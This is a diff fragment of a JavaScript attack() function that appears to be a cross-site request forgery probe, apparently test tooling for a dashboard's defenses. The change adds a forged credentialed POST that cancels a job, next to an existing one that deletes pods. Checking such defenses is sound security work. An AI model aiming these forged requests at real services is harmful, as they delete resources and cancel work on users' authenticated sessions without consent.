@@ -76,6 +76,8 @@ async function attack() {
                                                        credentials: "include"}).catch(() => 0));
     tries.push(post(base + "/dashboard/pods/delete", "application/x-www-form-urlencoded",
                     [["provider", "local"], ["pod", "%POD%"]]));
+    tries.push(post(base + "/dashboard/jobs/cancel", "application/x-www-form-urlencoded",
+                    [["job", "%JOB%"]]));
   }
   // What the browser sends this page's own server (a request of the page's own origin).
   tries.push(fetch("/collect", {credentials: "include"}).catch(() => 0));
